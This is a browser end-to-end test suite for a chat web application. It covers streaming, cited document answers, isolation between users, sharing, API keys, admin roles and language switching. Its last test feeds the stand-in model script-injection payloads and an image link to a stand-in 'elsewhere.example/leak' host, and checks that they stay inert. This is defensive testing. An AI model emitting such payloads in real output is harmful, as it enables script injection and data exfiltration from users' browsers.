import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Route } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FakeKnowledge } from "../../packages/web/test/support/fake-knowledge-search.js";
import type { FakeModelService } from "../../packages/web/test/support/fake-model-service.js";
import { setFilterWords, signIn } from "../../packages/web/test/support/web-client.js";
import type { WebHarness } from "../../packages/web/test/support/web-harness.js";
import { type Browser, hasChromium, screenshot, signUpInUi } from "../support/browser.js";
import { startUiStand, type UiStand } from "../support/ui-stand.js";

/**
 * Issue 6 in a real Chromium on the built UI: sign up as admin, chat and see it stream, upload a
 * document and get an answer citing it, a second user (Chinese browser) who cannot see the first
 * one's conversations or private knowledge base, an admin changing a role (and the audit log
 * naming it), the language switch (the admin pages' labels and choices in Chinese).
 * The model, knowledge and search services are local stand-ins speaking their recorded shapes.
 */
describe.skipIf(!hasChromium)("web UI in the browser", () => {
  let stand: UiStand;
  let model: FakeModelService;
  let services: FakeKnowledge;
  let web: WebHarness;
  let url: string;
  let alice: Browser;
  let bob: Browser;

  beforeAll(async () => {
    stand = await startUiStand({ model: { models: ["tiny-story"], delayMs: 20 }, knowledgeAndSearch: true });
    ({ model, web, url } = stand);
    services = stand.services!;
    alice = await stand.browser({ locale: "en-US" });
    bob = await stand.browser({ locale: "zh-CN", width: 390, height: 844 });
  });
  afterAll(() => stand?.close());

  it("signs up the first account as admin and streams a chat into a stored conversation", async () => {
    const { page } = alice;
    await signUpInUi(page, url, "alice");
    await expect.poll(() => page.getByRole("link", { name: "Admin" }).count()).toBe(1);
    await page.getByLabel(/Send a message/).fill("Plan my week");
    await page.getByRole("button", { name: "Send" }).click();
    const answer = page.locator("article.message.assistant").last();
    await expect.poll(() => answer.textContent(), { timeout: 10_000 }).toContain("Hello");
    await expect.poll(() => answer.getAttribute("data-status")).toBe("done");
    await expect
      .poll(() => page.getByRole("navigation", { name: "Conversations" }).textContent())
      .toContain("Plan my week");
    expect(page.url()).toMatch(/\/c\/[0-9a-f-]{36}$/);
  });

  it("uploads a document with progress and gets an answer citing it", async () => {
    const { page } = alice;
    await page.getByRole("link", { name: "Knowledge" }).click();
    await page.getByLabel("New knowledge base").fill("handbook");
    await page.getByRole("button", { name: "Create" }).click();
    await page.getByRole("heading", { name: "handbook" }).waitFor();
    const folder = mkdtempSync(join(tmpdir(), "hearth-upload-"));
    const file = join(folder, "vacation.txt");
    // The passage an answer cites comes after forty others, as in a real handbook.
    const sections = Array.from(
      { length: 40 },
      (_, i) => `Section ${i + 1}: the office kitchen is cleaned each week.`,
    );
    writeFileSync(file, [...sections, "Employees get 25 vacation days per year."].join("\n\n"));
    await page.locator('input[type="file"]:not([webkitdirectory])').setInputFiles(file);
    await expect.poll(() => page.locator('.uploads li[data-status="done"]').count()).toBe(1);
    await expect.poll(() => page.getByRole("link", { name: "vacation.txt" }).count()).toBe(1);

    await page.getByRole("link", { name: "Chat", exact: true }).click();
    await page.getByRole("button", { name: "+ New chat" }).click();
    await page.getByLabel("handbook").check();
    await page.getByLabel(/Send a message/).fill("How many vacation days do I get?");
    await page.getByRole("button", { name: "Send" }).click();
    const answer = page.locator("article.message.assistant").last();
    await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
    const citation = answer
      .getByRole("navigation", { name: "Sources" })
      .getByRole("link", { name: "vacation.txt" });
    const href = await citation.getAttribute("href");
    expect(href).toMatch(/\/api\/knowledge-bases\/[^/]+\/documents\/[^/]+\/file/);
    const opened = await page.request.get(`${url}${href!.split("#")[0]}`);
    expect(await opened.text()).toContain("25 vacation days");
    expect(services.queries.at(-1)?.query).toBe("How many vacation days do I get?");
    // The [1] the model wrote links to the same source.
    expect(await answer.locator("a.citation").getAttribute("href")).toBe(href);
    await screenshot(page, "web-ui-chat-citation-en");

    // Opened, the source shows the cited passage in its document, marked and scrolled to, with a
    // link to the file; nothing else opens. The [1] in the answer opens it too.
    for (const link of [citation, answer.locator("a.citation")]) {
      await link.click();
      const dialog = page.getByRole("dialog", { name: "vacation.txt" });
      const text = dialog.locator(".source-text");
      const cited = text.locator("mark");
      await expect.poll(() => cited.textContent()).toBe("Employees get 25 vacation days per year.");
      expect(await text.textContent()).toMatch(
        /^Section 1: the office kitchen[\s\S]*Section 40: .*\n\nEmployees get/,
      );
      await expect.poll(() => text.evaluate((box) => box.scrollTop)).toBeGreaterThan(0);
      const [shown, mark] = [(await text.boundingBox())!, (await cited.boundingBox())!];
      expect(mark.y).toBeGreaterThanOrEqual(shown.y);
      expect(mark.y + mark.height).toBeLessThanOrEqual(shown.y + shown.height);
      expect(await dialog.getByRole("link", { name: "Open the original file" }).getAttribute("href")).toBe(
        href,
      );
      expect(alice.context.pages()).toHaveLength(1);
      if (link === citation) await screenshot(page, "web-ui-source-view");
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "hidden" });
    }
  });

  it("offers the knowledge bases after #, and uses the one #mentioned for that very message", async () => {
    const { page } = alice;
    await page.getByRole("button", { name: "+ New chat" }).click();
    const box = page.getByLabel(/Send a message/);
    await box.click();
    // Typed in another case: the list offers the base by its name, with its document count.
    await page.keyboard.type("#HAND");
    const list = page.getByRole("listbox", { name: "Knowledge bases" });
    await list.waitFor({ timeout: 10_000 });
    expect(await list.getByRole("option").allTextContents()).toEqual(["#handbook1 document"]);
    expect(await box.getAttribute("aria-controls")).toBe(await list.getAttribute("id"));
    await expect
      .poll(() => page.getByRole("status").filter({ hasText: "Knowledge bases found" }).textContent())
      .toContain("Knowledge bases found: 1.");
    await page.keyboard.press("Enter");
    await list.waitFor({ state: "detached" });
    expect(await box.inputValue()).toBe("#handbook ");
    await page.keyboard.type("how many vacation days?");
    await page.keyboard.press("Enter");
    const answer = page.locator("article.message.assistant").last();
    await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
    // The mention that begins the message chose the base; what is sent is the question.
    expect(services.queries.at(-1)?.query).toBe("how many vacation days?");
    await answer
      .getByRole("navigation", { name: "Sources" })
      .getByRole("link", { name: "vacation.txt" })
      .waitFor();

    // A name with a space is found past it: the list stays open while a name holds what is typed.
    const withBase = (method: "POST" | "DELETE", id = "") =>
      page.evaluate(
        async ([verb, base]) => {
          const csrf = decodeURIComponent(document.cookie.match(/hearth_csrf=([^;]+)/)![1]!);
          const response = await fetch(`/api/knowledge-bases${base ? `/${base}` : ""}`, {
            method: verb,
            headers: { "x-csrf-token": csrf, "content-type": "application/json" },
            ...(verb === "POST" ? { body: JSON.stringify({ name: "HR policy" }) } : {}),
          });
          return verb === "POST" ? ((await response.json()) as { id: string }).id : "";
        },
        [method, id] as const,
      );
    const hr = await withBase("POST");
    await page.getByRole("link", { name: "Knowledge", exact: true }).click();
    await page.getByRole("link", { name: "Chat", exact: true }).click();
    await page.getByRole("button", { name: "+ New chat" }).click();
    await box.click();
    await page.keyboard.type("per #hr pol");
    expect(await list.getByRole("option").allTextContents()).toEqual(["#HR policy0 documents"]);
    await page.keyboard.press("Enter");
    expect(await box.inputValue()).toBe("per #HR policy ");
    await page.keyboard.type("#HR policy, and");
    await list.waitFor({ state: "detached" });
    // The base goes again: the flows below know the handbook alone.
    await withBase("DELETE", hr);
    await box.fill("");
  });

  it("leaves a streaming answer to its own conversation when the user opens another", async () => {
    const { page } = alice;
    model.options.words = Array.from({ length: 60 }, (_, i) => `word${i} `);
    try {
      await page.getByRole("button", { name: "+ New chat" }).click();
      await page.getByLabel(/Send a message/).fill("a long story please");
      await page.getByRole("button", { name: "Send" }).click();
      const streaming = page.locator('article.message.assistant[data-status="streaming"]');
      await expect.poll(async () => (await streaming.textContent()) ?? "").toContain("word3");
      await page.getByRole("button", { name: "+ New chat" }).click();
      // The new chat is empty and stays so while the other answer goes on.
      await page.getByText("Ask anything.").waitFor();
      await page.waitForTimeout(300);
      expect(await page.locator("article.message").count()).toBe(0);
      // The answer left behind was written to the end and stored.
      await expect
        .poll(
          async () =>
            (
              await web.db
                .selectFrom("messages")
                .select("status")
                .where("role", "=", "assistant")
                .orderBy("created_at", "desc")
                .executeTakeFirst()
            )?.status,
          { timeout: 10_000 },
        )
        .toBe("done");
      await page.locator(".conversation-list a", { hasText: "a long story please" }).click();
      await expect
        .poll(async () => (await page.locator("article.message.assistant").last().textContent()) ?? "")
        .toContain("word59");
    } finally {
      model.options.words = undefined;
    }
  });

  it("keeps a second user (Chinese browser, phone width) away from the first one's conversations and private knowledge", async () => {
    const { page } = bob;
    await signUpInUi(page, url, "bob");
    expect(await page.getByRole("link", { name: "聊天" }).count()).toBe(1);
    expect(await page.getByRole("link", { name: "管理" }).count()).toBe(0);
    const aliceConversation = new URL(alice.page.url()).pathname;
    await page.goto(`${url}${aliceConversation}`);
    // Not found, as for a conversation that does not exist: nothing of alice's shows.
    await page.getByRole("heading", { name: "找不到该对话" }).waitFor();
    expect(await page.locator("article.message").count()).toBe(0);
    expect(await page.locator("body").textContent()).not.toContain("Plan my week");
    await page.getByRole("button", { name: "新对话", exact: true }).click();
    await page.getByText("有什么可以帮你？").waitFor();
    // At phone width the conversation list folds behind a button; bob's is empty.
    expect(await page.getByRole("navigation", { name: "对话" }).isVisible()).toBe(false);
    await page.getByRole("button", { name: "对话", exact: true }).click();
    await page.getByRole("navigation", { name: "对话" }).waitFor();
    expect(await page.locator(".conversation-list li").count()).toBe(0);
    const api = await page.request.get(`${url}/api${aliceConversation.replace("/c/", "/conversations/")}`);
    expect(api.status()).toBe(404);
    await page.getByRole("link", { name: "知识库" }).click();
    await page.getByRole("heading", { name: "知识库" }).waitFor();
    expect(await page.getByRole("button", { name: "handbook" }).count()).toBe(0);
    await screenshot(page, "web-ui-second-user-zh");
  });

  it("shares a knowledge base with a group for reading, from the knowledge page", async () => {
    const { page } = alice;
    await page.getByRole("link", { name: "Admin" }).click();
    await page.getByLabel("New group").fill("team");
    await page.getByRole("button", { name: "Create" }).click();
    // Membership is saved, then the box reflects what the server holds.
    await page.getByLabel("team: bob").click();
    await expect.poll(() => page.getByLabel("team: bob").isChecked()).toBe(true);

    await page.getByRole("link", { name: "Knowledge" }).click();
    await page.getByRole("button", { name: "handbook" }).click();
    await page.getByRole("combobox", { name: "Visibility" }).selectOption("shared");
    await page.getByLabel("team").selectOption("read");
    await expect
      .poll(async () =>
        (await web.db.selectFrom("knowledge_shares").select("permission").execute()).map((s) => s.permission),
      )
      .toEqual(["read"]);

    await bob.page.reload();
    await bob.page.getByRole("button", { name: "handbook" }).click();
    await bob.page.getByRole("link", { name: "vacation.txt" }).waitFor();
    // Reading only: no upload and no delete for bob.
    expect(await bob.page.locator('input[type="file"]:not([webkitdirectory])').count()).toBe(0);
    expect(await bob.page.getByRole("button", { name: "删除：vacation.txt" }).count()).toBe(0);
  });

  it("renames and, once confirmed, deletes a conversation; creates an API key shown once and revokes it", async () => {
    const { page } = alice;
    await page.getByRole("link", { name: "Chat", exact: true }).click();
    const item = page.locator(".conversation-list li", { hasText: "Plan my week" });
    await item.locator("summary").click();
    await item.getByRole("button", { name: "Rename" }).click();
    // The item becomes a form holding the title (no longer its text).
    await page.getByRole("textbox", { name: "Rename" }).fill("Weekly plan");
    await page.getByRole("button", { name: "Save" }).click();
    const renamed = page.locator(".conversation-list li", { hasText: "Weekly plan" });
    await renamed.waitFor();

    const questions: string[] = [];
    page.once("dialog", (dialog) => {
      questions.push(dialog.message());
      void dialog.dismiss();
    });
    // Choosing Rename closed the menu.
    expect(await renamed.locator("details").getAttribute("open")).toBeNull();
    await renamed.locator("summary").click();
    await renamed.getByRole("button", { name: "Delete" }).click();
    await expect
      .poll(() => questions)
      .toEqual(["Delete the conversation “Weekly plan”? This cannot be undone."]);
    expect(await renamed.count()).toBe(1);
    page.once("dialog", (dialog) => void dialog.accept());
    await renamed.getByRole("button", { name: "Delete" }).click();
    await expect.poll(() => renamed.count()).toBe(0);
    expect(await web.db.selectFrom("conversations").select("title").execute()).not.toContainEqual({
      title: "Weekly plan",
    });

    await page.getByRole("link", { name: "Settings" }).click();
    await page.getByLabel("New API key").fill("laptop");
    await page.getByRole("button", { name: "Create" }).click();
    const shown = (await page.locator(".key-once code").textContent()) ?? "";
    expect(shown).toMatch(/^hk-/);
    const models = await page.request.get(`${url}/v1/models`, {
      headers: { authorization: `Bearer ${shown}` },
    });
    expect(models.status()).toBe(200);
    page.once("dialog", (dialog) => void dialog.accept());
    await page.getByRole("button", { name: "Revoke: laptop" }).click();
    await page.getByText("Revoked").waitFor();
    const refused = await page.request.get(`${url}/v1/models`, {
      headers: { authorization: `Bearer ${shown}` },
    });
    expect(refused.status()).toBe(401);
  });

  it("lists conversations fifty at a time, and loads more on request", async () => {
    const { page } = alice;
    const session = await signIn(web.app, "alice");
    for (let i = 0; i < 50; i++) {
      const created = await web.app.inject({
        method: "POST",
        url: "/api/conversations",
        headers: session.headers,
        payload: { title: `Archive ${i}` },
      });
      expect(created.statusCode).toBe(201);
    }
    const total = (
      await web.db
        .selectFrom("conversations")
        .innerJoin("users", "users.id", "conversations.user_id")
        .select("conversations.id")
        .where("users.username", "=", "alice")
        .execute()
    ).length;
    await page.getByRole("link", { name: "Chat", exact: true }).click();
    await page.reload();
    const items = page.locator(".conversation-list li");
    await expect.poll(() => items.count()).toBe(50);
    await page.getByRole("button", { name: "Load more" }).click();
    await expect.poll(() => items.count()).toBe(total);
    expect(await page.getByRole("button", { name: "Load more" }).count()).toBe(0);
  });

  it("lets the admin change a role, and switches the language", async () => {
    const { page } = alice;
    await page.getByRole("link", { name: "Admin" }).click();
    // Making an administrator asks first.
    page.once("dialog", (dialog) => void dialog.accept());
    await page.getByLabel("Role: bob").selectOption("admin");
    await expect
      .poll(
        async () =>
          (await web.db.selectFrom("users").select("role").where("username", "=", "bob").executeTakeFirst())
            ?.role,
      )
      .toBe("admin");
    await bob.page.reload();
    await bob.page.getByRole("link", { name: "管理" }).waitFor();

    await page.getByRole("tab", { name: "Audit log" }).click();
    const change = page.locator('tr[data-action="user.role-change"]');
    await expect.poll(() => change.count()).toBe(1);
    expect(await change.locator("td").allTextContents()).toEqual(
      expect.arrayContaining(["alice", "Changed a role"]),
    );

    await page.getByRole("combobox", { name: "Language" }).selectOption("zh-CN");
    await page.getByRole("link", { name: "聊天" }).waitFor();
    expect(await page.evaluate(() => document.documentElement.lang)).toBe("zh-CN");
    expect(await change.locator("td").allTextContents()).toContain("修改角色");
    await page.getByRole("tab", { name: "运行状态" }).click();
    await page.getByText("推理延迟 P99（毫秒）").waitFor();
    await page.getByRole("tab", { name: "用户" }).click();
    const role = page.getByLabel("角色：bob");
    expect(await role.evaluate((select: HTMLSelectElement) => select.selectedOptions[0]?.textContent)).toBe(
      "管理员",
    );
    await screenshot(page, "web-ui-admin-zh");
    await page.getByRole("combobox", { name: "语言" }).selectOption("en");
    await page.getByRole("link", { name: "Chat", exact: true }).waitFor();
    await screenshot(page, "web-ui-admin-en");
  });

  it("copies a code block from an answer, and keeps dollar signs in code out of the math", async () => {
    model.options.words = [
      "Run `cost=$5 and $6` then:\n\n```sh\necho $HOME and $USER\n```\n\nwhile $x^2$ is math.",
    ];
    try {
      const { page } = alice;
      await page.getByRole("link", { name: "Chat", exact: true }).click();
      await page.getByRole("button", { name: "+ New chat" }).click();
      await page.getByLabel(/Send a message/).fill("code please");
      await page.getByRole("button", { name: "Send" }).click();
      const answer = page.locator("article.message.assistant").last();
      await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
      const copy = answer.locator("pre").getByRole("button", { name: "Copy" });
      await copy.click();
      await answer.locator("pre").getByRole("button", { name: "Copied" }).waitFor();
      expect(await answer.locator("pre code").textContent()).toBe("echo $HOME and $USER");
      expect(await answer.locator("p code").textContent()).toBe("cost=$5 and $6");
      expect(await answer.locator(".katex").count()).toBe(1);
    } finally {
      model.options.words = undefined;
    }
  });

  it("gives a refused message back, saying why in the reader's language", async () => {
    const { page } = alice;
    const session = await signIn(web.app, "alice");
    const settings = (words: string[]) => setFilterWords(web.app, session, words);
    await settings(["forbidden"]);
    // The empty conversation the refused message leaves is removed slowly: the text comes back
    // all the same, as the reason shows.
    const slowDelete = async (route: Route) => {
      if (route.request().method() === "DELETE") await new Promise((resolve) => setTimeout(resolve, 3000));
      await route.fallback();
    };
    await page.route("**/api/conversations/*", slowDelete);
    try {
      await page.getByRole("link", { name: "Chat", exact: true }).click();
      await page.getByRole("button", { name: "+ New chat" }).click();
      const composer = page.getByLabel(/Send a message/);
      await composer.fill("a forbidden thing");
      await page.getByRole("button", { name: "Send" }).click();
      // Refused before anything was stored: why, beside the composer, which has the text back.
      await expect
        .poll(() => page.locator(".chat > .error-text").textContent())
        .toBe("Error: The message contains a word this site does not allow. Refused: forbidden");
      expect(await composer.inputValue()).toBe("a forbidden thing");
      expect(await page.locator("article.message").count()).toBe(0);
      // Changed and sent again, it is answered.
      await composer.fill("a permitted thing");
      await page.getByRole("button", { name: "Send" }).click();
      const answer = page.locator("article.message.assistant").last();
      await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
      expect(await page.locator(".chat > .error-text").count()).toBe(0);
    } finally {
      await page.unroute("**/api/conversations/*", slowDelete);
      await settings([]);
    }
  });

  it("says so when web search failed for an answer, and why", async () => {
    // Every engine rate-limited: the search service says for how long, and so does the page.
    services.searchError = { status: 429, code: "SEARCH_RATE_LIMITED", retryAfter: "30" };
    try {
      const { page } = alice;
      await page.getByRole("link", { name: "Chat", exact: true }).click();
      await page.getByRole("button", { name: "+ New chat" }).click();
      await page.getByRole("combobox", { name: "Web search" }).selectOption("on");
      await page.getByLabel(/Send a message/).fill("latest hearth release");
      await page.getByRole("button", { name: "Send" }).click();
      const answer = page.locator("article.message.assistant").last();
      await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
      expect(await answer.locator(".grounding-warning").textContent()).toBe(
        "Web search failed for this answer: the search engines are rate-limiting; try again in 30 s. It was written without web results.",
      );
    } finally {
      services.searchError = undefined;
      await alice.page.getByRole("combobox", { name: "Web search" }).selectOption("off");
    }
  });

  it("renders script injection in a model answer inert, and loads nothing it names from elsewhere", async () => {
    model.options.words = [
      '<img src=x onerror="window.__pwned=1">',
      "<script>window.__pwned=2</script>",
      " **bold** and $x^2$ ",
      "![chart](https://elsewhere.example/leak?q=secret) ",
      '<img src="https://elsewhere.example/pixel.png">',
    ];
    const { page } = alice;
    const outbound: string[] = [];
    const watch = (request: { url(): string }) => {
      if (request.url().includes("elsewhere.example")) outbound.push(request.url());
    };
    page.on("request", watch);
    try {
      await page.getByRole("link", { name: "Chat", exact: true }).click();
      await page.getByRole("button", { name: "+ New chat" }).click();
      await page.getByLabel(/Send a message/).fill("inject");
      await page.getByRole("button", { name: "Send" }).click();
      const answer = page.locator("article.message.assistant").last();
      await expect.poll(() => answer.getAttribute("data-status"), { timeout: 10_000 }).toBe("done");
      await answer.locator("strong").waitFor();
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
      expect(await answer.locator("script").count()).toBe(0);
      // Raw HTML is shown as the text it is (as ChatGPT shows it), not dropped without a trace.
      expect(await answer.locator(".markdown").textContent()).toContain(
        '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>',
      );
      expect(await answer.locator("[onerror]").count()).toBe(0);
      expect(await answer.locator(".katex").count()).toBe(1);
      // A Markdown image from elsewhere is a link to follow; an <img> from elsewhere loads nothing.
      expect(await answer.getByRole("link", { name: "chart" }).getAttribute("href")).toBe(
        "https://elsewhere.example/leak?q=secret",
      );
      expect(await answer.locator('img[src*="elsewhere.example"]').count()).toBe(0);
      await page.waitForTimeout(300);
      expect(outbound).toEqual([]);
    } finally {
      page.off("request", watch);
      model.options.words = undefined;
    }
  });
});
